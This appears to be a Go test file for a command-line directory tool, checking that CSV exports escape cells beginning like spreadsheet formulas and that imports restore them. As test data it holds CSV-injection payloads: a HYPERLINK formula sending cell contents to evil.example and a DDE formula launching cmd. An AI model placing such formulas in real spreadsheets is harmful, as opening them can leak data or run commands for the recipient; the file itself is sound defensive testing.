package main

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
)

// formulaCells reports the cells of a CSV (after its header) a spreadsheet would
// read as a formula.
func formulaCells(t *testing.T, data []byte) []string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var bad []string
	for _, row := range rows[1:] {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				bad = append(bad, c)
			}
		}
	}
	return bad
}

// TestHostileCSVFormulas: listings whose text begins like a spreadsheet formula are
// exported with the cells escaped ('=...), the import takes the escape off again,
// and export → import → export is byte for byte the same.
func TestHostileCSVFormulas(t *testing.T) {
	src := closedSampleDB(t)
	dir := t.TempDir()
	first := filepath.Join(dir, "first.csv")
	mustDoorstep(t, "export", "--db", src, "services", "--format", "csv", "-o", first)
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(readBytes(t, first), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	hostile := map[string]string{
		"name":    `=HYPERLINK("http://evil.example/?"&A1,"点我")`,
		"address": "-2+3 号",
		"phone":   "+86 21 6543 2100",
		"offers":  "@SUM(1+1)",
		"note":    "=A1*2 备注",
	}
	row := rows[1]
	for field, v := range hostile {
		row[col[field]] = v
	}
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	if err := w.WriteAll([][]string{rows[0], row}); err != nil {
		t.Fatal(err)
	}
	hand := writeFile(t, "hand.csv", buf.Bytes())
	mustDoorstep(t, "import", "services", "--db", src, hand)

	exported := filepath.Join(dir, "exported.csv")
	mustDoorstep(t, "export", "--db", src, "services", "--format", "csv", "-o", exported)
	data := readBytes(t, exported)
	if bad := formulaCells(t, data); len(bad) > 0 {
		t.Errorf("the export holds formula cells: %q", bad)
	}
	if !bytes.Contains(data, []byte(`'=HYPERLINK(`)) || !bytes.Contains(data, []byte(`'+86 21`)) {
		t.Errorf("the export does not escape the formula cells")
	}
	fresh := filepath.Join(dir, "fresh.db")
	mustDoorstep(t, "import", "services", "--db", fresh, exported)
	again := filepath.Join(dir, "again.csv")
	mustDoorstep(t, "export", "--db", fresh, "services", "--format", "csv", "-o", again)
	if !bytes.Equal(data, readBytes(t, again)) {
		t.Errorf("export → import → export changed the file")
	}
	for _, s := range listings(t, fresh) {
		if s.Phone == hostile["phone"] {
			if s.Name != hostile["name"] || s.Address != hostile["address"] || s.Note != hostile["note"] || s.Offers[0] != hostile["offers"] {
				t.Errorf("the import did not take the escape off: %+v", s)
			}
			return
		}
	}
	t.Errorf("no listing with phone %s after the round trip", hostile["phone"])
}

// TestHostileCoverageCSVFormulas: an area named like a formula is escaped in the
// coverage CSV.
func TestHostileCoverageCSVFormulas(t *testing.T) {
	path := sampleDBPath(t)
	db, err := sql.Open("sqlite", "file:"+path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.ExecContext(context.Background(), `UPDATE areas SET name = '=1+cmd|'' /C calc''!A0' WHERE id = (SELECT MIN(id) FROM areas)`); err != nil {
		t.Fatal(err)
	}
	db.Close()
	raw := runCLI(t, "coverage", "--db", path, "--format", "csv")
	if bad := formulaCells(t, []byte(raw)); len(bad) > 0 {
		t.Errorf("the coverage CSV holds formula cells: %q", bad)
	}
	if !strings.Contains(raw, "'=1+cmd") {
		t.Errorf("the area's name is not in the coverage CSV, escaped")
	}
}
